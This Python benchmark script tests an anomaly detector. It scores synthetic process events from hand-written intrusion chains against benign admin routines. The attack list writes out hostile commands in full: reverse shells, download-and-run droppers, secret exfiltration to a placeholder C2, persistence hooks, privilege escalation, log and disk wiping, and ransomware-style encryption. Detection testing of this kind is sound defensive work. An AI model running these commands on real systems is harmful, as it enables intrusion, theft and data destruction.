"""Hand-written intrusion chains and admin routines, none from the evaluation data: which reach alert?

Each probe is typed into a fresh shell (an interactive bash under sshd, or a server's worker for web
shells) on a workload whose baseline is learned from that workload's benign capture in the evaluation
data, then scored one event at a time, as bench/detect.py scores the captured chains. A probe reaches
alert when any of its events does. The attacks are written from what each technique does, to find the
behaviours procsight misses; the routines (installs, backups, debugging) are what a person does on a
server, to find the alerts it should not raise. Addresses are placeholders: nothing is contacted.

    .venv/bin/python bench/chain_probes.py [--eval-dir DIR] [--show NAME ...]
"""

from __future__ import annotations

import argparse
import json
import shlex
import sys
import tempfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

# Run as a script, bench/ comes first on sys.path, where bench/scoring.py would shadow the scoring package;
# the repository root goes there instead (`testing` is not installed).
sys.path = [p for p in sys.path if Path(p or ".").resolve() != Path(__file__).resolve().parent]
sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from core.event import ProcessEvent  # noqa: E402
from core.semconv import event_from_attributes  # noqa: E402
from scoring.config import EngineConfig  # noqa: E402
from scoring.engine import AnomalyEngine, Verdict  # noqa: E402
from testing import EVAL_DIR  # noqa: E402

C2 = "45.9.148.3"  # a public address: what droppers fetch from (never contacted)
LOCAL_C2 = "127.0.0.1:8000"  # the captured chains' server: an attacker's address need not look foreign
SEVERITY_MARK = {"alert": "A", "warn": "w", "none": "."}


class Shell:
    """Exec events of one shell session on host `vm`: pids, parents and times as the agent reports them."""

    def __init__(self, uid: int, cwd: str) -> None:
        self.uid, self.cwd, self.now = uid, cwd, 1_900_000_000.0
        self.pid, self.name, self._next = 3000, "bash", 3010
        self.events = [self._event(self.pid, 1, "bash", ("-bash",), "sshd", "/usr/bin/bash")]

    def server(self, name: str, path: str) -> Shell:
        """Commands below come from a server's worker (a web shell, an injected command) instead."""
        self.pid, self.name = 6000, name
        self.events = [self._event(self.pid, 1, name, (path,), "systemd", path)]
        return self

    def run(self, *pipeline: str, gap: float = 2.0, path: str = "", parent: int = 0) -> list[int]:
        """One command line: its commands (a pipeline) start together; `path` is the first one's executable."""
        self.now += gap
        pids = []
        for index, line in enumerate(pipeline):
            args = tuple(shlex.split(line))
            executable = path if index == 0 and path else self._executable(args[0])
            self._next += 1
            self.events.append(self._event(self._next, parent or self.pid, executable.rsplit("/", 1)[-1], args,
                                           self._parent_name(parent), executable))
            self.now += 0.001
            pids.append(self._next)
        return pids

    def script(self, text: str, *children: str, gap: float = 2.0) -> None:
        """`sh -c TEXT`, then its `children` (the external commands it runs), each below it."""
        self.now += gap
        self._next += 1
        sh = self._next
        self.events.append(self._event(sh, self.pid, "sh", ("sh", "-c", text), self.name, "/usr/bin/sh"))
        for child in children:
            self.run(child, gap=0.01, parent=sh)

    def _executable(self, program: str) -> str:
        if program.startswith("./"):
            return f"{self.cwd}/{program[2:]}"
        return program if program.startswith("/") else f"/usr/bin/{program}"

    def _parent_name(self, parent: int) -> str:
        return next((e.executable_name for e in self.events if e.pid == parent), "") if parent else self.name

    def _event(self, pid: int, parent: int, name: str, args: tuple[str, ...], parent_name: str,
               path: str) -> ProcessEvent:
        return ProcessEvent(executable_name=name, executable_path=path, command_line=" ".join(args),
                            command_args=args, pid=pid, parent_pid=parent, parent_name=parent_name,
                            user_id=self.uid, working_directory=self.cwd, host="vm", timestamp=self.now)


@dataclass(frozen=True)
class Probe:
    name: str
    workload: str
    attack: bool
    steps: Callable[[Shell], object]
    uid: int = 0
    cwd: str = "/srv/work"


@dataclass
class Outcome:
    probe: Probe
    events: list[ProcessEvent]
    verdicts: list[Verdict] = field(default_factory=list)

    def alerted(self) -> bool:
        return any(v.severity == "alert" for v in self.verdicts)


def _web(name: str, path: str) -> Callable[[Shell], Shell]:
    return lambda shell: shell.server(name, path)


def _steps(*parts: Callable[[Shell], object]) -> Callable[[Shell], None]:
    def run(shell: Shell) -> None:
        for part in parts:
            part(shell)
    return run


ATTACKS = [
    Probe("wget piped into python", "admin", True, lambda s: s.run(f"wget -q -O - http://{C2}/p.py", "python3")),
    Probe("base64 decoded into bash", "admin", True,
          lambda s: s.run("echo Y3VybCBodHRwOi8veC94IHwgc2g=", "base64 -d", "bash")),
    Probe("curl -O, chmod, run in a build directory", "ci", True, _steps(
        lambda s: s.run(f"curl -sO http://{C2}/agent"), lambda s: s.run("chmod 755 agent"),
        lambda s: s.run("./agent --daemon")), uid=1000, cwd="/home/ci/build"),
    Probe("setuid copy of bash", "admin", True, _steps(
        lambda s: s.run("cp /bin/bash /var/tmp/.sysd"), lambda s: s.run("chmod 4755 /var/tmp/.sysd"),
        lambda s: s.run("/var/tmp/.sysd -p"))),
    Probe("ssh key appended", "admin", True, _steps(
        lambda s: s.run("mkdir -p /root/.ssh"),
        lambda s: s.script("echo ssh-ed25519 AAAAC3Nza x >> /root/.ssh/authorized_keys"))),
    Probe("crontab fed a download", "admin", True, lambda s: s.script(
        f"(crontab -l; echo '*/5 * * * * curl -fsSL http://{C2}/c | sh') | crontab -", "crontab -l", "crontab -")),
    Probe("web shell looks around and fetches", "web", True, _steps(
        _web("php-fpm", "/usr/sbin/php-fpm8.2"), lambda s: s.script("id", "id"),
        lambda s: s.script("uname -a", "uname -a"), lambda s: s.script("cat /etc/passwd", "cat /etc/passwd"),
        lambda s: s.script(f"wget -q http://{C2}/x -O /tmp/x", f"wget -q http://{C2}/x -O /tmp/x")),
        uid=33, cwd="/var/www/html"),
    Probe("secrets archived and uploaded", "admin", True, _steps(
        lambda s: s.run("tar czf /tmp/.d.tgz /etc/shadow /root/.ssh"),
        lambda s: s.run(f"curl -s -T /tmp/.d.tgz http://{C2}/up"), lambda s: s.run("rm -f /tmp/.d.tgz"))),
    Probe("dropper in /dev/shm", "admin", True, _steps(
        lambda s: s.run(f"wget -q http://{C2}/k -O /dev/shm/k"), lambda s: s.run("chmod +x /dev/shm/k"),
        lambda s: s.run("nohup /dev/shm/k"))),
    Probe("python download, then run", "ci", True, _steps(
        lambda s: s.run(f"python3 -c 'import urllib.request as u; u.urlretrieve(\"http://{C2}/m\", \"/tmp/m\")'"),
        lambda s: s.run("chmod +x /tmp/m"), lambda s: s.run("/tmp/m")), uid=1000, cwd="/home/ci/build"),
    Probe("decrypted payload into sh", "admin", True,
          lambda s: s.run("openssl enc -d -aes-256-cbc -pass pass:x -in /tmp/p.enc", "sh")),
    Probe("backdoor account, history off", "admin", True, _steps(
        lambda s: s.run("useradd -m -s /bin/bash svc-backup"), lambda s: s.run("usermod -aG sudo svc-backup"),
        lambda s: s.script("unset HISTFILE; history -c"))),
    Probe("python reverse shell from nginx", "web", True, _steps(
        _web("nginx", "/usr/sbin/nginx"),
        lambda s: s.script("python3 -c 'import socket,os,pty;s=socket.socket();"
                           f"s.connect((\"{C2}\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'")),
        uid=33, cwd="/var/www/html"),
    Probe("busybox nc bind shell", "admin", True, lambda s: s.run("busybox nc -lp 4444 -e /bin/sh")),
    Probe("environment tokens posted", "ci", True,
          lambda s: s.run("env", "grep -i token", f"curl -s -d @- http://{C2}/t"), uid=1000, cwd="/home/ci/build"),
    Probe("ld.so.preload rootkit", "admin", True, _steps(
        lambda s: s.run(f"curl -s -o /usr/lib/libsys.so http://{C2}/l.so"),
        lambda s: s.script("echo /usr/lib/libsys.so > /etc/ld.so.preload"))),
    Probe("systemd service persistence", "admin", True, _steps(
        lambda s: s.run(f"curl -s -o /usr/local/bin/updater http://{C2}/u"),
        lambda s: s.run("chmod +x /usr/local/bin/updater"),
        lambda s: s.script("printf '[Service]\\nExecStart=/usr/local/bin/updater\\n' > "
                           "/etc/systemd/system/updater.service"),
        lambda s: s.run("systemctl enable --now updater"))),
    Probe("scp pull and run", "admin", True, _steps(
        lambda s: s.run(f"scp attacker@{C2}:/srv/x /tmp/.x"), lambda s: s.run("chmod +x /tmp/.x"),
        lambda s: s.run("/tmp/.x"))),
    Probe("perl reverse shell", "admin", True, lambda s: s.run(
        f"perl -e 'use Socket;$i=\"{C2}\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
        "connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'")),
    Probe("docker mounts the host", "admin", True,
          lambda s: s.run("docker run -v /:/mnt --rm -it alpine chroot /mnt sh")),
    Probe("miner cloned and built in /tmp", "ci", True, _steps(
        lambda s: s.run(f"git clone https://{C2}/xmr.git /tmp/x"), lambda s: s.run("make -C /tmp/x"),
        lambda s: s.run("/tmp/x/xmrig -o pool.minexmr.com:4444 -u wallet")), uid=1000, cwd="/home/ci/build"),
    Probe("injected curl | bash below java", "web", True, _steps(
        _web("java", "/usr/lib/jvm/bin/java"),
        lambda s: s.script(f"curl -s http://{C2}/x.sh | bash", f"curl -s http://{C2}/x.sh", "bash")),
        uid=33, cwd="/"),
    Probe("SUID find escalates", "admin", True, _steps(
        lambda s: s.script("find / -perm -4000 -type f 2>/dev/null", "find / -perm -4000 -type f"),
        lambda s: s.run("find . -exec /bin/sh -p ; -quit"))),
    Probe("Mirai-style drop below apache", "web", True, _steps(
        _web("apache2", "/usr/sbin/apache2"),
        lambda s: s.script(f"cd /tmp; wget http://{C2}/x; chmod 777 x; ./x", f"wget http://{C2}/x", "chmod 777 x",
                           "./x")), uid=33, cwd="/var/www/html"),
    Probe("uid 0 line in /etc/passwd", "admin", True, _steps(
        lambda s: s.script("echo 'root2:$1$x$y:0:0::/root:/bin/bash' >> /etc/passwd"), lambda s: s.run("su root2"))),
    Probe("fifo reverse shell", "admin", True, lambda s: s.script(
        f"rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {C2} 4444 > /tmp/f",
        "rm /tmp/f", "mkfifo /tmp/f", "cat /tmp/f", "/bin/sh -i", f"nc {C2} 4444")),
    Probe("defences switched off", "admin", True, _steps(
        lambda s: s.run("systemctl stop auditd"), lambda s: s.run("iptables -F"), lambda s: s.run("setenforce 0"))),
    Probe("hex decoded, then run", "admin", True, _steps(
        lambda s: s.script("echo 7f454c46 | xxd -r -p > /var/tmp/.u", "xxd -r -p"),
        lambda s: s.run("chmod +x /var/tmp/.u"), lambda s: s.run("/var/tmp/.u"))),
    Probe("PHP written into the web root by mysqld", "web", True, _steps(
        _web("mysqld", "/usr/sbin/mysqld"),
        lambda s: s.script("echo '<?php system($_GET[c]); ?>' > /var/www/html/.s.php")), uid=27, cwd="/var/lib/mysql"),
    Probe("kernel module from /tmp", "admin", True, _steps(
        lambda s: s.run(f"wget -q http://{C2}/rk.ko -O /tmp/rk.ko"), lambda s: s.run("insmod /tmp/rk.ko"))),
    Probe("/etc served over HTTP", "admin", True, lambda s: s.run("python3 -m http.server 8000"), cwd="/etc"),
    Probe("sudoers NOPASSWD", "admin", True,
          lambda s: s.script("echo 'svc ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers")),
    Probe("setuid capability on python", "admin", True, _steps(
        lambda s: s.run("setcap cap_setuid+ep /usr/bin/python3.11"),
        lambda s: s.run("python3.11 -c 'import os; os.setuid(0); os.system(\"/bin/sh\")'"))),
    Probe("logs emptied, times forged", "admin", True, _steps(
        lambda s: s.script("> /var/log/auth.log"), lambda s: s.run("truncate -s 0 /var/log/wtmp"),
        lambda s: s.run("touch -r /etc/hostname /etc/passwd"))),
    Probe("disk overwritten", "admin", True, lambda s: s.run("dd if=/dev/zero of=/dev/sda bs=1M count=100")),
    Probe("files encrypted, originals removed", "admin", True, _steps(*[
        step for name in ("a", "b") for step in (
            lambda s, n=name: s.run(f"openssl enc -aes-256-cbc -in /srv/data/{n}.db -out /srv/data/{n}.db.enc "
                                    "-pass pass:x", gap=0.2),
            lambda s, n=name: s.run(f"rm -f /srv/data/{n}.db", gap=0.1))])),
    Probe("host namespaces entered", "admin", True, lambda s: s.run("nsenter -t 1 -m -u -i -n -p sh")),
    Probe("cloud credentials used", "admin", True, _steps(
        lambda s: s.run("cat /root/.aws/credentials"), lambda s: s.run("aws s3 sync s3://corp-backups /tmp/.b"))),
    Probe("home encrypted and uploaded", "admin", True, _steps(
        lambda s: s.run("tar czf - /home", "gpg --symmetric --passphrase x -o /tmp/.h.gpg"),
        lambda s: s.run(f"curl -T /tmp/.h.gpg ftp://{C2}/"))),
    Probe("EDR killed", "admin", True, _steps(
        lambda s: s.run("pkill -9 falco"), lambda s: s.run("systemctl disable --now falco"))),
    Probe("script fetched by a CGI, run by sh", "web", True, _steps(_web("fcgiwrap", "/usr/sbin/fcgiwrap"),
        lambda s: s.script(f"wget -q -O /tmp/.s http://{C2}/s; sh /tmp/.s", f"wget -q -O /tmp/.s http://{C2}/s",
                           "sh /tmp/.s"))),
    Probe("decoded script run by python", "admin", True, _steps(
        lambda s: s.run("base64 -d blob.txt", "tee /dev/shm/a.py"), lambda s: s.run("python3 /dev/shm/a.py"))),
    Probe("script saved by curl, run by bash", "admin", True, _steps(
        lambda s: s.run(f"curl -s http://{C2}/s.sh -o s.sh"), lambda s: s.run("bash s.sh"))),
    Probe("escaped bytes printed into sh by a CGI", "web", True, _steps(_web("fcgiwrap", "/usr/sbin/fcgiwrap"),
        lambda s: s.script("ping -c 1 -W 1 127.0.0.1;printf '\\x69\\x64'|sh", "ping -c 1 -W 1 127.0.0.1", "sh"))),
    Probe("ping sweep in a loop", "admin", True, lambda s: s.script(
        "for i in $(seq 1 254); do ping -c1 -W1 10.0.0.$i; done", "seq 1 254", "ping -c1 -W1 10.0.0.1",
        "ping -c1 -W1 10.0.0.2")),
    Probe("python dropper from a local server below a CGI", "web", True, _steps(_web("fcgiwrap", "/usr/sbin/fcgiwrap"),
        lambda s: s.script(f"curl -s http://{LOCAL_C2}/x.py -o /tmp/x.py;python3 /tmp/x.py",
                           f"curl -s http://{LOCAL_C2}/x.py -o /tmp/x.py", "python3 /tmp/x.py"))),
    Probe("shadow encoded and posted below a CGI", "web", True, _steps(_web("fcgiwrap", "/usr/sbin/fcgiwrap"),
        lambda s: s.script(f"cat /etc/shadow|base64|curl -s -d @- http://{LOCAL_C2}/", "cat /etc/shadow", "base64",
                           f"curl -s -d @- http://{LOCAL_C2}/"))),
    Probe("miner fetched into a build cache", "ci", True, _steps(
        lambda s: s.run(f"wget -q http://{LOCAL_C2}/xmrig -O .cache/xm"), lambda s: s.run("chmod +x .cache/xm"),
        lambda s: s.run("./.cache/xm -o stratum+tcp://pool:3333 --donate-level 1", path="/srv/work/ci/.cache/xm")),
        uid=1001, cwd="/srv/work/ci"),
    Probe("tunnel client in /dev/shm", "admin", True, _steps(
        lambda s: s.run(f"curl -so /dev/shm/c http://{LOCAL_C2}/chisel"), lambda s: s.run("chmod +x /dev/shm/c"),
        lambda s: s.run("/dev/shm/c client 127.0.0.1:9000 R:socks", path="/dev/shm/c"))),
    Probe("tar checkpoint runs a shell", "admin", True, lambda s: s.run(
        "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh")),
    Probe("shell escape from vim through sudo", "admin", True, _steps(
        lambda s: s.run("sudo -l"), lambda s: s.run("sudo vim -c ':!/bin/sh'")), uid=1000, cwd="/home/u"),
    Probe("a database server writes a file and runs it", "web", True, _steps(_web("mysqld", "/usr/sbin/mysqld"),
        lambda s: s.script("echo x > /tmp/.m; chmod +x /tmp/.m; /tmp/.m", "chmod +x /tmp/.m", "/tmp/.m"))),
    Probe("telnet in, bash, telnet out", "admin", True, lambda s: s.run(
        "telnet 127.0.0.1 4444", "/bin/bash", "telnet 127.0.0.1 4445")),
    Probe("files encrypted by find -exec", "admin", True, lambda s: s.script(
        "find /srv -type f -exec openssl enc -aes-256-cbc -pass pass:k -in {} -out {}.locked \\;")),
    Probe("download run through process substitution", "admin", True,
          lambda s: s.run(f"curl -fsSL http://{LOCAL_C2}/i.sh", "bash /dev/fd/63")),
    Probe("systemd generator dropped", "admin", True, lambda s: s.script(
        "printf '#!/bin/sh\\n/usr/local/lib/.n &\\n' > /etc/systemd/system-generators/n-generator")),
    Probe("APT hook that fetches a script", "admin", True, lambda s: s.script(
        f"echo 'APT::Update::Pre-Invoke {{\\\"curl -s http://{LOCAL_C2}/u | sh\\\"}};' > /etc/apt/apt.conf.d/00u")),
    Probe("~/.ssh/rc starts a hidden program", "admin", True, lambda s: s.script(
        "echo 'nohup /var/lib/.cache/helper >/dev/null 2>&1 &' >> /root/.ssh/rc")),
    Probe("miner unpacked into a dot-directory of /var/lib", "admin", True, _steps(
        lambda s: s.run("pkill -f kinsing"),
        lambda s: s.run(f"curl -s http://{LOCAL_C2}/sd.tgz", "tar xz -C /var/lib/.sd"),
        lambda s: s.run("/var/lib/.sd/systemd-journal -c /var/lib/.sd/config.json -B"))),
    Probe("CI job runs what it decodes", "ci", True, lambda s: s.run(
        "python3 -c \"import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\""),
        uid=1001, cwd="/srv/work/ci"),
    Probe("database dropped, ransom note left", "admin", True, _steps(
        lambda s: s.run("mysql -u root -e 'SHOW DATABASES'"),
        lambda s: s.run("mysql -u root -e 'DROP DATABASE shop; CREATE DATABASE README_TO_RECOVER'"))),
    Probe("kubelet asked to run a command", "admin", True, _steps(
        lambda s: s.run("curl -sk https://10.0.0.21:10250/pods"),
        lambda s: s.run("curl -sk -XPOST https://10.0.0.21:10250/run/kube-system/etcd/etcd -d cmd=id"))),
]

ROUTINES = [
    Probe("TLS secret created and listed", "admin", False, _steps(
        lambda s: s.run("kubectl create secret tls web-tls --cert=fullchain.pem --key=privkey.pem -n app"),
        lambda s: s.run("kubectl get secret web-tls -n app")), cwd="/root/certs"),
    Probe("database backup copied to S3", "admin", False, lambda s: s.run(
        "aws s3 cp /var/backups/app.dump s3://corp-backups/db/app.dump"), cwd="/root"),
    Probe("kubectl installed", "admin", False, _steps(
        lambda s: s.run("curl -LO https://dl.k8s.io/release/v1.28.0/bin/linux/amd64/kubectl"),
        lambda s: s.run("chmod +x kubectl"), lambda s: s.run("sudo mv kubectl /usr/local/bin/"),
        lambda s: s.run("kubectl version --client", path="/usr/local/bin/kubectl")), uid=1000, cwd="/home/u"),
    Probe("node_exporter unpacked", "admin", False, _steps(
        lambda s: s.run("wget https://github.com/prometheus/node_exporter/releases/download/v1.7.0/ne.tar.gz"),
        lambda s: s.run("tar xvfz ne.tar.gz"),
        lambda s: s.run("./ne/node_exporter --version", path="/home/u/ne/node_exporter")), uid=1000, cwd="/home/u"),
    Probe("helm install script", "admin", False, _steps(
        lambda s: s.run("curl -fsSL -o get_helm.sh https://raw.githubusercontent.com/helm/helm/main/scripts/get"),
        lambda s: s.run("chmod 700 get_helm.sh"), lambda s: s.run("./get_helm.sh")), uid=1000, cwd="/home/u"),
    Probe("CI fetches a release binary", "ci", False, _steps(
        lambda s: s.run("wget -q https://github.com/mikefarah/yq/releases/download/v4.40.5/yq_linux_amd64"),
        lambda s: s.run("chmod +x yq_linux_amd64"), lambda s: s.run("./yq_linux_amd64 --version")),
        uid=1000, cwd="/home/ci/build"),
    Probe("a site served from a home directory", "admin", False, lambda s: s.run("python3 -m http.server 8080"),
          uid=1000, cwd="/home/u/site"),
    Probe("/etc backed up to a backup host", "admin", False, _steps(
        lambda s: s.run("tar czf /var/backups/etc.tgz /etc"),
        lambda s: s.run("scp /var/backups/etc.tgz backup@10.0.0.5:/srv/backups/")), cwd="/root"),
    Probe("old logs cleaned", "admin", False, _steps(
        lambda s: s.run("find /var/log -name '*.gz' -mtime +30 -delete"),
        lambda s: s.run("journalctl --vacuum-time=7d"), lambda s: s.run("systemctl restart rsyslog")), cwd="/root"),
    Probe("a colleague onboarded", "admin", False, _steps(
        lambda s: s.run("useradd -m -s /bin/bash alice"), lambda s: s.run("usermod -aG developers alice"),
        lambda s: s.run("chmod 700 /home/alice/.ssh")), cwd="/root"),
    Probe("go build and test", "ci", False, _steps(
        lambda s: s.run("go build -o bin/app ./cmd/app"), lambda s: s.run("go test ./..."),
        lambda s: s.run("./bin/app --help")), uid=1000, cwd="/home/ci/build"),
    Probe("C compiled, run, removed", "ci", False, _steps(
        lambda s: s.run("gcc -O2 -o hello hello.c"), lambda s: s.run("./hello"), lambda s: s.run("rm hello")),
        uid=1000, cwd="/home/ci/build"),
    Probe("certificates renewed", "admin", False, _steps(
        lambda s: s.run("certbot renew --quiet"), lambda s: s.run("systemctl reload nginx")), cwd="/root"),
    Probe("a network problem debugged", "admin", False, _steps(
        lambda s: s.run("ss -tulpn"), lambda s: s.run("ps auxf"), lambda s: s.run("lsof -i :443"),
        lambda s: s.run("tcpdump -i eth0 -c 100 port 443")), cwd="/root"),
    Probe("a certificate checked by hand", "admin", False, lambda s: s.run(
        "openssl s_client -connect example.com:443 -servername example.com"), cwd="/root"),
    Probe("Docker's install script", "admin", False, _steps(
        lambda s: s.run("curl -fsSL https://get.docker.com -o get-docker.sh"), lambda s: s.run("sh get-docker.sh")),
        cwd="/root"),
    Probe("a node build", "ci", False, _steps(lambda s: s.run("npm ci"), lambda s: s.run("npm run build"),
                                            lambda s: s.run("npm test")), uid=1001, cwd="/srv/work/ci"),
    Probe("NodeSource setup script", "admin", False, _steps(
        lambda s: s.run("curl -fsSL https://deb.nodesource.com/setup_20.x -o nodesource_setup.sh"),
        lambda s: s.run("bash nodesource_setup.sh"), lambda s: s.run("apt-get install -y nodejs")), cwd="/opt"),
]


def score(probe: Probe, training: list[ProcessEvent]) -> Outcome:
    shell = Shell(probe.uid, probe.cwd)
    probe.steps(shell)
    outcome = Outcome(probe, shell.events)
    with tempfile.TemporaryDirectory() as directory:
        engine = AnomalyEngine(EngineConfig(baselines=directory))
        engine.learn_only(training, workload=probe.workload)
        outcome.verdicts = [engine.process([event], workload=probe.workload)[0] for event in shell.events]
        engine.close()
    return outcome


def report(outcomes: list[Outcome], show: set[str]) -> None:
    for attack in (True, False):
        print(f"\n{'intrusion chains' if attack else 'routines'} (A alert, w warn, . none; the first event is the "
              "shell or server)")
        for outcome in (o for o in outcomes if o.probe.attack == attack):
            marks = "".join(SEVERITY_MARK[v.severity] for v in outcome.verdicts)
            incidents = len({v.incident for v in outcome.verdicts if v.incident})
            print(f"  {outcome.probe.name:42s} {outcome.probe.workload:6s} {marks:16s} incidents {incidents}")
            if outcome.probe.name in show or (attack != outcome.alerted()):
                for event, verdict in zip(outcome.events, outcome.verdicts, strict=True):
                    print(f"      {verdict.severity:5s} {verdict.score:.2f} {event.command_line[:60]!r} "
                          f"{verdict.reasons[:3]}")
    attacks = [o for o in outcomes if o.probe.attack]
    routines = [o for o in outcomes if not o.probe.attack]
    print(f"\nintrusion chains alerted {sum(o.alerted() for o in attacks)}/{len(attacks)}; "
          f"routines with an alert {sum(o.alerted() for o in routines)}/{len(routines)}")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--eval-dir", type=Path, default=EVAL_DIR)
    parser.add_argument("--show", nargs="*", default=[], metavar="NAME", help="print these probes event by event")
    args = parser.parse_args()
    training: dict[str, list[ProcessEvent]] = {}
    for workload in sorted({p.workload for p in ATTACKS + ROUTINES}):
        path = args.eval_dir / f"benign_{workload}.jsonl"
        if not path.exists():
            sys.exit(f"bench/chain_probes.py learns baselines from the evaluation data, and {path} is missing: "
                     "put shared/eval beside the repository (CI does) or pass --eval-dir DIR")
        training[workload] = [event_from_attributes(json.loads(line)) for line in path.open()]
    report([score(probe, training[probe.workload]) for probe in ATTACKS + ROUTINES], set(args.show))


if __name__ == "__main__":
    main()
